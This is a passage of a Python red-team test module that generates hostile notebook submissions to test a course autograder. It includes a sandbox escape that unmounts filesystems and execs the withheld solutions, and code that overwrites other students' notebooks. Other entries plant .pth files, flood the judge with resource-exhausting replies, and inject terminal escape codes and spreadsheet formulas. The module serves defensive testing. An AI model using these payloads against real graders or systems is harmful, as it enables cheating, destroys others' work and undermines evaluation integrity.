    return submission(DENSE, {"dense_layer": _join(_AGENT_PATCH, dense)})


@_exploit(
    KL,
    "agent patch",
    "the kernel's agent adds np, kl_by_quadrature and TEST_SEED to its names; the KL is 0",
)
def agent_names_kl(context: Context) -> Any:
    code = """
    def kl_normal(mu, sigma, m=0.0, s=1.0):
        return np.zeros(np.broadcast(mu, sigma, m, s).shape)
    """
    return _agent_patched(KL, "kl_closed_form", code)


@_exploit(
    ADAM,
    "agent patch",
    "the kernel's agent adds np, SGD and rosenbrock to its names and answers 'globals' with "
    "every request; Adam.step does nothing",
)
def agent_names_adam(context: Context) -> Any:
    return submission(ADAM, {"adam": _join(_AGENT_PATCH, template_text(ADAM, "adam"))})


# Finds the grader's checkout from inside the kernel: pip's editable-install finder names it.
_FIND_CHECKOUT = """
import glob
import json
import os
import re
import site
import subprocess
import sys
from pathlib import Path


def _checkouts():
    folders = [*site.getsitepackages(), site.getusersitepackages(), *sys.path]
    for folder in folders:
        for finder in glob.glob(os.path.join(folder, "__editable__*vae_numpy*")):
            try:
                text = Path(finder).read_text()
            except OSError:
                continue
            for path in re.findall(r"['\\"](/[^'\\"]+)/vae_numpy['\\"]", text):
                yield Path(path)
        for pth in glob.glob(os.path.join(folder, "*.pth")):
            try:
                yield from (Path(line.strip()) for line in Path(pth).read_text().splitlines())
            except OSError:
                continue
    for entry in [os.getcwd(), os.environ.get("PWD", ""), "/work", "/root", "/home", "/srv"]:
        if entry:
            yield Path(entry)
            yield from Path(entry).glob("*")
"""


@_exploit(
    KL,
    "sandbox escape",
    "unmounts the folders that cover the sources (as root in its namespace), then reads the "
    "published solutions from the checkout, its .git (git show) or build/ and execs them",
    sandbox=True,
)
def escape_checkout_kl(context: Context) -> Any:
    code = (
        _FIND_CHECKOUT
        + """

for _mount in Path("/proc/self/mounts").read_text().splitlines()[::-1]:
    subprocess.run(["umount", "-l", _mount.split()[1]], capture_output=True)


def _solutions():
    relative = "notebooks/assignments/source/03_kl_divergence.ipynb"
    for root in _checkouts():
        texts = []
        for path in (root / relative, root / "build" / "lib" / "vae_numpy" / "_notebooks" / relative):
            try:
                texts.append(path.read_text())
            except OSError:
                pass
        try:
            shown = subprocess.run(
                ["git", "-C", str(root), "show", f"HEAD:{relative}"], capture_output=True, text=True
            )
            texts.append(shown.stdout)
        except OSError:
            pass
        for text in texts:
            try:
                cells = json.loads(text)["cells"]
            except ValueError:
                continue
            return ["".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {}).get("solution")]
    return []


for _code in _solutions():
    exec(_code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
"""
    )
    return submission(KL, {"kl_closed_form": code})


@_exploit(
    DENSE,
    "sabotage",
    "walks the file system and overwrites every other 01 notebook it can write with the "
    "student copy (another student's 14 would become 0)",
    sandbox=True,
)
def sabotage_others_dense(context: Context) -> Any:
    code = """
import json
import os

_blank = None
for _top in ["/tmp", "/work", "/root", "/home", "/srv", "/var"]:
    for _folder, _dirs, _files in os.walk(_top):
        _dirs[:] = [d for d in _dirs if not d.startswith(".") and d not in ("site-packages", "proc")]
        for _file in _files:
            if not _file.endswith(".ipynb"):
                continue
            _path = os.path.join(_folder, _file)
            try:
                with open(_path) as _f:
                    _nb = json.load(_f)
                for _cell in _nb["cells"]:
                    if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "dense_layer":
                        _cell["source"] = "class Dense:\\n    pass\\n"
                with open(_path, "w") as _f:
                    json.dump(_nb, _f)
            except (OSError, ValueError, KeyError, TypeError):
                pass
"""
    dense = _stubs(DENSE, "dense_layer", "return x", "return grad_y")
    return submission(DENSE, {"dense_layer": _join(code, dense)})


@_exploit(
    ADAM,
    "planted .pth",
    "writes a .pth file into every site-packages folder (it would run in every later grading "
    "process) and a marker into the grader's home, the checkout and /tmp",
    sandbox=True,
)
def plant_pth_adam(context: Context) -> Any:
    code = (
        _FIND_CHECKOUT
        + """

_marker = "@TOKEN@"
for _folder in {*site.getsitepackages(), site.getusersitepackages(), *sys.path}:
    try:
        # harmless if it ever lands: a comment line, which site.py skips
        Path(_folder, f"{_marker}.pth").write_text("# planted by the red-team corpus\\n")
    except OSError:
        pass
for _folder in [*_checkouts(), Path.home(), Path("/tmp"), Path("/root"), Path(sys.prefix)]:
    try:
        Path(_folder, f"{_marker}.planted").write_text("planted\\n")
    except OSError:
        pass
"""
    )
    return submission(
        ADAM, {"adam": _join(_with_token(code, context), template_text(ADAM, "adam"))}
    )


# Student code replaces how the kernel's agent sends frames: raw bytes the judge must refuse
# before it builds anything from them.
def _raw_reply(payload: str) -> str:
    return f"""
import struct

import vae_numpy.assignments._agent as _agent_module

_real_send = _agent_module.send_frame


def _send(sock, message):
    if isinstance(message, dict) and ("ok" in message or "err" in message) and "sync" in message:
        data = {payload}
        sock.sendall(struct.pack(">Q", len(data)) + data)
    else:
        _real_send(sock, message)


_agent_module.send_frame = _send
"""


_KL_ZERO = """
def kl_normal(mu, sigma, m=0.0, s=1.0):
    return np.zeros(np.broadcast(mu, sigma, m, s).shape)
"""


@_exploit(
    KL,
    "judge limits",
    "every reply is a list nested 200,000 deep (the judge's JSON parser would recurse)",
)
def deep_reply_kl(context: Context) -> Any:
    code = _raw_reply('b\'{"sync":[],"ok":\' + b"[" * 200_000 + b"]" * 200_000 + b"}"')
    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})


@_exploit(
    KL,
    "judge limits",
    "every reply is 30 MB of tiny values (millions of Python objects if parsed)",
)
def flood_reply_kl(context: Context) -> Any:
    code = _raw_reply('b\'{"sync":[],"ok":[\' + b"0," * 15_000_000 + b"0]}"')
    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})


@_exploit(KL, "judge limits", "every reply is a raw NaN (JSON's NaN literal)")
def raw_nan_reply_kl(context: Context) -> Any:
    code = _raw_reply('b\'{"sync":[],"ok":NaN}\'')
    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})


@_exploit(
    KL,
    "judge limits",
    "every reply is an array of shape (100000, 100000) with no data (80 GB if allocated)",
)
def huge_shape_reply_kl(context: Context) -> Any:
    code = _raw_reply('b\'{"sync":[],"ok":{"nd":["float64",[100000,100000],"AAAA"],"id":999}}\'')
    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})


@_exploit(
    DENSE,
    "judge limits",
    "forward returns an object whose shape is (30000, 30000): a test that builds an array of "
    "that shape in the judge would allocate 7 GB",
)
def huge_shape_object_dense(context: Context) -> Any:
    forward = """
    class _Big:
        shape = (30000, 30000)
        ndim = 2
        dtype = np.float64

        def __len__(self):
            return 30000

    return _Big()
    """
    dense = _stubs(DENSE, "dense_layer", forward, "return np.ones((30000, 30000))[:0]")
    return submission(DENSE, {"dense_layer": dense})


# Copies that are edited, and text meant for the teacher's console and spreadsheet --------------

_CORPUS = Path(__file__).resolve().parents[1] / "copy_corpus"


def _corpus_cells(assignment: str, name: str) -> dict[str, str]:
    """The cells of a file of tests/copy_corpus (``# %% grade_id`` starts each)."""
    cells: dict[str, str] = {}
    current = None
    for line in (_CORPUS / assignment / name).read_text(encoding="utf-8").split("\n"):
        if line.startswith("# %% "):
            current = line.removeprefix("# %% ").strip()
            cells[current] = ""
        elif current is not None:
            cells[current] += line + "\n"
    return cells


@_exploit(
    DENSE,
    "library paste",
    "vae_numpy's own Dense (the withheld reference) pasted with its names changed",
    expect="copy",
)
def library_dense_renamed(context: Context) -> Any:
    return submission(DENSE, _corpus_cells(DENSE, "paraphrase_library_1_dense.txt"))


@_exploit(
    KL,
    "pasted solution",
    "the published solution with two independent lines swapped",
    expect="copy",
)
def swapped_lines_kl(context: Context) -> Any:
    cells = {gid: solution_text(KL, gid) for gid in solution_ids(KL)}
    code = cells["kl_standard_normal_grad"]
    swapped = code.replace(
        "    d_mu = mu\n    d_log_var = 0.5 * (np.exp(log_var) - 1)",
        "    d_log_var = 0.5 * (np.exp(log_var) - 1)\n    d_mu = mu",
    )
    if swapped == code:
        raise RuntimeError("the published kl_standard_normal_grad changed: update this exploit")
    cells["kl_standard_normal_grad"] = swapped
    return submission(KL, cells)


@_exploit(
    ADAM,
    "wrong metadata",
    "the published 01 solution handed in as 04_adam.ipynb (its metadata names 01)",
)
def dense_as_adam(context: Context) -> Any:
    nb = submission(DENSE, {gid: solution_text(DENSE, gid) for gid in solution_ids(DENSE)})
    nb.metadata.setdefault("vae_numpy", {})["assignment"] = DENSE
    return nb


@_exploit(
    KL,
    "console and spreadsheet",
    "error messages that rewrite the terminal (escape codes) and start spreadsheet formulas",
)
def escape_codes_kl(context: Context) -> Any:
    code = """
    def kl_normal(mu, sigma, m=0.0, s=1.0):
        raise ValueError("\\x1b[2K\\x1b[1A\\r=HYPERLINK(\\"http://127.0.0.1/\\", \\"14/14\\")")


    def kl_standard_normal(mu, log_var):
        raise ValueError("=1+1\\x07\\x1b]0;graded\\x07")
    """
    return submission(KL, {"kl_closed_form": code})


def _iter_names(values: list[str]) -> Iterator[Exploit]:
    for name in values:
        if name not in EXPLOITS:
            raise SystemExit(f"unknown exploit {name!r}; known: {', '.join(sorted(EXPLOITS))}")
        yield EXPLOITS[name]


def main(argv: list[str] | None = None) -> int:
    """``python -m tests.redteam.corpus DIR [NAME ...]``: write the submissions into DIR."""
    parser = argparse.ArgumentParser(prog="python -m tests.redteam.corpus", description=__doc__)
    parser.add_argument("folder", help="where to write NAME/ASSIGNMENT.ipynb")
    parser.add_argument("names", nargs="*", help="exploits to write (default: all)")
    parser.add_argument("--token", default=None, help="process-name token (default: random)")
    args = parser.parse_args(argv)
    context = Context(args.token or new_token())
    chosen = list(_iter_names(args.names)) if args.names else exploits()
    for e in chosen:
        print(write(e.build(context), corpus_path(Path(args.folder), e)))
    print(f"process-name token: {context.token}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
